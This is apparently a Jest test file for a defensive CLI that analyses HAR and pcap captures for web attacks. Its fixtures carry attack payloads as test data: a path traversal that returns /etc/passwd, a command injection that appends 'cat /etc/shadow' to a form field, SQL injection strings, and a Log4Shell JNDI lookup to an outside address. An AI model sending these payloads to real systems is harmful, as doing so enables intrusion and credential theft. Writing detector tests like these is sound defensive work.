/**
 * `tx-prevent-analyzer analyze` run for real, as a child process through tsx: HAR exported by a
 * browser, pcap/pcapng captures built by the sensor tests' pcap writer, and bad inputs.
 */
import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { FAKE_CREDENTIALS, startFakeAwsApi } from '@/test/runtime/config/fake-aws-api';
import { pcapFile, pcapngFile, TcpConversation } from '@/test/sensor/helpers/pcap-writer';
import { runCommand } from '@/test/sensor/helpers/run';

const ROOT = join(__dirname, '..', '..', '..', '..');
const CLI = join(ROOT, 'bin', 'tx-prevent-analyzer.ts');
const HAR = join(ROOT, 'test', 'fixtures', 'har', 'shop.example.com.har');

interface Record {
  msg_type: 'MatchEvent' | 'Finding';
  request_id?: string;
  example_request_id?: string;
  class?: string;
  matches?: Array<{ classification: string; location: string; parameter?: string }>;
}

function run(args: string[], env: NodeJS.ProcessEnv = {}, command: string[] = ['analyze']) {
  return runCommand(process.execPath, ['--require', require.resolve('tsx/cjs'), CLI, ...command, ...args], { PATH: process.env.PATH, ...env });
}

/** Runs the command; stdout must be JSON lines. */
async function analyze(args: string[], env: NodeJS.ProcessEnv = {}) {
  const result = await run(args, env);
  const records = result.stdout
    .split('\n')
    .filter((line) => line.length > 0)
    .map((line) => JSON.parse(line) as Record);
  return { ...result, records, matchEvents: records.filter((r) => r.msg_type === 'MatchEvent'), findings: records.filter((r) => r.msg_type === 'Finding') };
}

const PASSWD = 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n';

/** A plain-HTTP capture: a benign request, a path traversal that returns /etc/passwd, a command injection. */
function attackCapture(): TcpConversation[] {
  const first = new TcpConversation({ clientIp: '192.0.2.10', serverIp: '198.51.100.5', clientPort: 51000 }).handshake();
  first
    .send('client', 'GET /catalog?page=2 HTTP/1.1\r\nHost: files.example.com\r\nUser-Agent: curl/8.5.0\r\n\r\n')
    .send('server', 'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 11\r\n\r\n{"items":[]')
    .send('client', 'GET /download?file=../../../../etc/passwd HTTP/1.1\r\nHost: files.example.com\r\nUser-Agent: curl/8.5.0\r\n\r\n')
    .send('server', `HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: ${PASSWD.length}\r\n\r\n${PASSWD}`)
    .close();
  const form = 'host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow';
  const second = new TcpConversation({ clientIp: '192.0.2.11', serverIp: '198.51.100.5', clientPort: 51001, startUs: 1_700_000_001_000_000 }).handshake();
  second
    .send(
      'client',
      `POST /tools/ping HTTP/1.1\r\nHost: files.example.com\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${form.length}\r\n\r\n${form}`,
    )
    .send('server', 'HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok')
    .close();
  return [first, second];
}

function frames(conversations: TcpConversation[]) {
  return conversations.flatMap((c) => c.frames).sort((a, b) => a.timestampUs - b.timestampUs);
}

describe('tx-prevent-analyzer analyze', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'offline-cli-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const file = (name: string, data: string | Buffer) => {
    const path = join(dir, name);
    writeFileSync(path, data);
    return path;
  };

  it('--help explains the inputs, the settings it reads and the exit status', async () => {
    const { code, stdout } = await run(['--help']);
    expect(code).toBe(0);
    expect(stdout).toContain('Usage: tx-prevent-analyzer analyze [--no-redact] FILE...');
    expect(stdout).toContain('pcap/pcapng');
    expect(stdout).toContain('SUPPRESSIONS');
    expect(stdout).toContain('Exit codes:');
  });

  it('refuses a mistyped command instead of starting the service', async () => {
    const { code, stderr } = await run([HAR], {}, ['analyse']);
    expect(code).toBe(2);
    expect(stderr).toBe(
      'tx-prevent-analyzer: error TXP_USAGE: unknown command "analyse"; the service takes no arguments, and the only command is analyze (run tx-prevent-analyzer --help)\n',
    );
  });

  it('finds the SQL injection and the XSS in a Chrome HAR export, and nothing in its benign entries', async () => {
    const { code, stderr, matchEvents, findings, stdout } = await analyze([HAR]);
    expect(code).toBe(0);
    expect(matchEvents.map((e) => [e.request_id, e.matches!.map((m) => `${m.classification} ${m.location} ${m.parameter}`)])).toEqual([
      ['har:shop.example.com.har:3', ['SqlInjection query category', 'SqlInjection query category']],
      ['har:shop.example.com.har:4', ['Xss body_json comment', 'Xss body_json comment']],
    ]);
    // The 500 answer with a MySQL syntax error confirms the injection.
    expect(findings.map((f) => [f.class, f.example_request_id])).toEqual([['sql_injection', 'har:shop.example.com.har:3']]);
    expect(stderr).toContain('tx-prevent-analyzer: 1 file, 7 exchanges analysed in ');
    expect(stderr).toMatch(/match events: 2\n {2}SqlInjection {2}1\n {2}Xss {11}1\n/);
    expect(stderr).toMatch(/findings: 1 distinct, 0 update records\n {2}sql_injection {2}1\n/);
    // Credentials in the export are redacted as the sensor would before analysis.
    expect(stdout).not.toContain('9f3c1a7e52b04d6f8e2a');
    expect(stdout).not.toContain('correct+horse');
  });

  it('docs/analyzer-offline.md shows the output the fixture really gives', async () => {
    const doc = readFileSync(join(ROOT, 'docs', 'analyzer-offline.md'), 'utf8');
    const { code, stdout, stderr } = await run([HAR]);
    expect(code).toBe(0);
    // Finding lines hold values redacted with a key of the run; MatchEvent lines are stable.
    for (const line of stdout
      .trimEnd()
      .split('\n')
      .filter((l) => l.includes('"msg_type":"MatchEvent"')))
      expect(doc).toContain(line);
    expect(doc).toContain(stderr.replace(/analysed in \d+\.\d s/, 'analysed in 0.1 s'));
  });

  it('applies the service settings from the environment: SUPPRESSIONS hides an accepted risk', async () => {
    const suppressions = JSON.stringify([{ endpoint: '/api/reviews', findingClass: 'Xss', reason: 'reviews are HTML-escaped and moderated' }]);
    const { code, stderr, matchEvents } = await analyze([HAR], { SUPPRESSIONS: suppressions });
    expect(code).toBe(0);
    expect(matchEvents.map((e) => e.request_id)).toEqual(['har:shop.example.com.har:3']);
    expect(stderr).toContain('2 matches or findings suppressed');
  });

  it("with STACK_NAME, reads the stack's settings from SSM as the service does (fake AWS API on 127.0.0.1)", async () => {
    const aws = await startFakeAwsApi(2);
    try {
      aws.parameters.set(
        '/Stack/analyzer/suppressions',
        JSON.stringify([{ endpoint: '/api/products', findingClass: 'SqlInjection', reason: 'read-only replica, parameterised since 4.2' }]),
      );
      const { code, matchEvents } = await analyze([HAR], {
        STACK_NAME: 'Stack',
        AWS_REGION: 'us-east-1',
        AWS_ENDPOINT_URL: aws.endpoint,
        AWS_ACCESS_KEY_ID: FAKE_CREDENTIALS.accessKeyId,
        AWS_SECRET_ACCESS_KEY: FAKE_CREDENTIALS.secretAccessKey,
        AWS_EC2_METADATA_DISABLED: 'true',
      });
      expect(code).toBe(0);
      expect(matchEvents.map((e) => e.request_id)).toEqual(['har:shop.example.com.har:4']);
    } finally {
      await aws.close();
    }
  });

  it('exits 2 naming the setting when a setting is invalid', async () => {
    const { code, stderr, stdout } = await analyze([HAR], { SUPPRESSIONS: '[{"endpoint": "/x"}]' });
    expect(code).toBe(2);
    expect(stderr).toContain('SUPPRESSIONS');
    expect(stderr).not.toMatch(/\n\s+at /);
    expect(stdout).toBe('');
  });

  it('finds attacks in a pcap through the sensor decoder, recognised by content whatever the extension', async () => {
    const capture = file('traffic.txt', pcapFile('ethernet', frames(attackCapture())));
    const { code, stderr, matchEvents, findings } = await analyze([capture]);
    expect(code).toBe(0);
    expect(matchEvents.map((e) => e.request_id)).toEqual(['pcap:traffic.txt:1', 'pcap:traffic.txt:2']);
    expect(matchEvents[0]!.matches!.map((m) => m.classification)).toContain('PathTraversal');
    expect(matchEvents[1]!.matches!.map((m) => `${m.classification} ${m.location} ${m.parameter}`)).toContain('CommandInjection body_form host');
    expect(findings.find((f) => f.class === 'path_traversal')?.example_request_id).toBe('pcap:traffic.txt:1');
    expect(stderr).toContain('1 file, 3 exchanges analysed');
    expect(stderr).not.toContain('not analysed');
  });

  it('reads pcapng, several inputs in one run, and tells inputs with the same name apart', async () => {
    mkdirSync(join(dir, 'a'));
    mkdirSync(join(dir, 'b'));
    const ng = file('a/capture.pcapng', pcapngFile('ethernet', frames(attackCapture())));
    const linuxCooked = new TcpConversation({ link: 'sll2' }).handshake();
    linuxCooked.send('client', 'GET /items?id=1%20OR%201=1-- HTTP/1.1\r\nHost: shop.example.com\r\n\r\n').close();
    const alsoNg = file('b/capture.pcapng', pcapngFile('sll2', linuxCooked.frames));
    const { code, stderr, matchEvents } = await analyze([ng, HAR, alsoNg]);
    expect(code).toBe(0);
    const ids = matchEvents.map((e) => e.request_id);
    expect(ids).toEqual([`pcap:${ng}:1`, `pcap:${ng}:2`, 'har:shop.example.com.har:3', 'har:shop.example.com.har:4', `pcap:${alsoNg}:0`]);
    expect(new Set(ids).size).toBe(ids.length);
    expect(stderr).toContain('3 files, 11 exchanges analysed');
  });

  it('counts what a capture holds but cannot be decoded: TLS connections', async () => {
    const tls = new TcpConversation({ serverPort: 443 }).handshake();
    tls.send('client', Buffer.concat([Buffer.from([0x16, 0x03, 0x01, 0x00, 0x40]), Buffer.alloc(64, 1)])).close();
    const { code, stderr, records } = await analyze([file('https.pcap', pcapFile('ethernet', tls.frames))]);
    expect(code).toBe(0);
    expect(records).toEqual([]);
    expect(stderr).toMatch(/not analysed:\n {2}TLS connections in a capture \(encrypted: capture where TLS is terminated\) {2}1\n/);
  });

  it('redacts as the sensor does: payloads in cookies and credentials stay in clear, a password field only with --no-redact', async () => {
    const entry = (url: string, headers: Array<{ name: string; value: string }>, postData?: { mimeType: string; text: string }) => ({
      startedDateTime: '2026-11-20T10:00:00.000Z',
      request: {
        method: postData ? 'POST' : 'GET',
        url,
        httpVersion: 'HTTP/1.1',
        headers: [{ name: 'Host', value: 'app.example.com' }, ...headers],
        ...(postData ? { postData } : {}),
      },
      response: { status: 200, headers: [], content: { size: 0, mimeType: 'text/html' } },
    });
    const har = {
      log: {
        version: '1.2',
        creator: { name: 'OWASP ZAP', version: '2.15.0' },
        entries: [
          entry('http://app.example.com/account', [{ name: 'Cookie', value: "session=' OR '1'='1' -- " }]),
          entry('http://app.example.com/api/me', [{ name: 'Authorization', value: 'Bearer ${jndi:ldap://203.0.113.9/a}' }]),
          entry('http://app.example.com/login', [{ name: 'Content-Type', value: 'application/json' }], {
            mimeType: 'application/json',
            text: JSON.stringify({ user: 'alice', password: "' OR '1'='1' -- " }),
          }),
        ],
      },
    };
    const path = file('zap.har', JSON.stringify(har));
    const found = (run: Awaited<ReturnType<typeof analyze>>) =>
      run.matchEvents.map((e) => [e.request_id, e.matches![0]!.classification, e.matches![0]!.location, e.matches![0]!.parameter]);
    const redacted = await analyze([path]);
    expect(redacted.code).toBe(0);
    expect(found(redacted)).toEqual([
      ['har:zap.har:0', 'SqlInjection', 'cookie', 'session'],
      ['har:zap.har:1', 'Log4Shell', 'header', 'Authorization'],
    ]);
    const raw = await analyze(['--no-redact', path]);
    expect(raw.code).toBe(0);
    expect(found(raw)).toEqual([
      ['har:zap.har:0', 'SqlInjection', 'cookie', 'session'],
      ['har:zap.har:1', 'Log4Shell', 'header', 'Authorization'],
      ['har:zap.har:2', 'SqlInjection', 'body_json', 'password'],
    ]);
  });

  it('stops quietly, exit 0, when its reader goes away (| head)', async () => {
    const chrome = JSON.parse(readFileSync(HAR, 'utf8')) as { log: { entries: unknown[] } };
    chrome.log.entries = Array.from({ length: 5000 }, () => chrome.log.entries[3]);
    const path = file('many.har', JSON.stringify(chrome));
    const child = spawn(process.execPath, ['--require', require.resolve('tsx/cjs'), CLI, 'analyze', path], {
      env: { PATH: process.env.PATH },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    child.stderr!.on('data', (d) => (stderr += d));
    const firstLine = await new Promise<string>((resolve) => {
      let text = '';
      child.stdout!.on('data', (d) => {
        text += d;
        if (text.includes('\n')) {
          child.stdout!.destroy();
          resolve(text.slice(0, text.indexOf('\n')));
        }
      });
    });
    const code = await new Promise<number | null>((resolve) => child.on('close', (c) => resolve(c)));
    expect(JSON.parse(firstLine).request_id).toBe('har:many.har:0');
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  });

  describe('exits 2 with one line naming the file for input it cannot analyse', () => {
    const oneLine = async (args: string[], expected: RegExp) => {
      const { code, stdout, stderr } = await analyze(args);
      expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
      expect(stderr.endsWith('\n')).toBe(true);
      expect(stderr.trimEnd().split('\n')).toHaveLength(1);
      expect(stderr).toMatch(expected);
      expect(stderr).not.toMatch(/\s+at \S+ \(/);
    };

    it('a text file', async () => {
      const path = file('notes.txt', 'these are my notes\n');
      await oneLine(
        [path],
        new RegExp(
          `^tx-prevent-analyzer analyze: error TXP_OFFLINE_INPUT_INVALID: ${path}: is neither a HAR file \\(a JSON object\\) nor a pcap/pcapng capture`,
        ),
      );
    });

    it('a truncated HAR export', async () => {
      const text = readFileSync(HAR, 'utf8');
      const path = file('cut.har', text.slice(0, Math.floor(text.length / 2)));
      await oneLine(
        [path],
        new RegExp(
          `^tx-prevent-analyzer analyze: error TXP_OFFLINE_INPUT_INVALID: ${path}: is not valid JSON \\(.+\\); a HAR file may have been cut off: export it again\\n$`,
        ),
      );
    });

    it('JSON that is not HAR, and a HAR entry without its URL', async () => {
      await oneLine([file('package.json', '{"name": "x"}')], /package\.json: is JSON but not a HAR file: it has no "log" object/);
      const bad = { log: { entries: [{ request: { method: 'GET', url: 'http://a/' } }, { request: { method: 'GET' } }] } };
      await oneLine([file('bad-entry.har', JSON.stringify(bad))], /bad-entry\.har: log\.entries\[1\]\.request\.url is missing; the file is not valid HAR 1\.2/);
    });

    it('an empty file, a missing file and a directory', async () => {
      await oneLine([file('empty.pcap', '')], /empty\.pcap: is empty; give a HAR file or a pcap\/pcapng capture\n$/);
      await oneLine([join(dir, 'no-such.har')], /no-such\.har: no such file; check the path\n$/);
      await oneLine([dir], /: is a directory; give HAR or pcap\/pcapng files/);
    });

    it('a missing file among good ones, before any output', async () => {
      await oneLine([HAR, join(dir, 'typo.har')], /typo\.har: no such file/);
    });

    it('a corrupt capture and a compressed one', async () => {
      const header = pcapFile('ethernet', []);
      const record = Buffer.alloc(16);
      record.writeUInt32LE(0x7fffffff, 8);
      await oneLine(
        [file('corrupt.pcap', Buffer.concat([header, record]))],
        /corrupt\.pcap: corrupt pcap record at byte 24: captured length 2147483647 exceeds/,
      );
      await oneLine([file('trace.har.gz', gzipSync(readFileSync(HAR)))], /trace\.har\.gz: is gzip-compressed; decompress it first/);
    });

    it('no file, and an unknown option', async () => {
      await oneLine(
        [],
        /^tx-prevent-analyzer analyze: error TXP_USAGE: missing FILE \(a HAR file or a pcap\/pcapng capture\); usage: tx-prevent-analyzer analyze/,
      );
      await oneLine(
        ['--verbose', HAR],
        /^tx-prevent-analyzer analyze: error TXP_USAGE: unknown option --verbose; run tx-prevent-analyzer analyze --help for the options\n$/,
      );
    });
  });
});
